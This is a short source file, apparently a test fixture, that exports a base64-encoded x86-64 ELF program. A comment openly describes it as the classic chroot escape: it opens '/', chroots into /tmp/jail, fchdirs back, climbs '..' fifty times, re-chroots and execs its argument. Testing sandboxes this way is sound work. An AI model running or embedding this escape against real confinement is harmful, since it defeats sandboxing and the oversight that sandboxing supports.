/**
 * A program of 64-bit x86 that leaves a chroot the classic way, as an ELF file in base64: opens `/`, changes its root to
 * /tmp/jail, goes back to the descriptor, up fifty times, makes where it is its root, and becomes its first argument
 * with the rest. Exits with 99 when it may not change its root.
 *
 *     int fd = open("/", O_RDONLY | O_DIRECTORY);
 *     if (chroot("/tmp/jail")) _exit(99);
 *     fchdir(fd);
 *     for (int i = 0; i < 50; i++) chdir("..");
 *     chroot(".");
 *     execve(argv[1], argv + 1, NULL);
 */
export const climbProgram = [
  'f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAABAAAAAAAAAAEAAAAFAAAAAAAA',
  'AAAAAAAAAEAAAAAAAAAAQAAAAAAAAgEAAAAAAAACAQAAAAAAAAAQAAAAAAAASInjMdJIjT13AAAAvgAAAQC4AgAAAA8FQYnESI09',
  'VwAAALihAAAADwWFwHVARInnuFEAAAAPBb0yAAAASI09QgAAALhQAAAADwX/zXXuSI09MwAAALihAAAADwVIi3sQSI1zEDHSuDsA',
  'AAAPBb9jAAAAuDwAAAAPBS90bXAvamFpbAAvAC4uAC4A',
].join('')
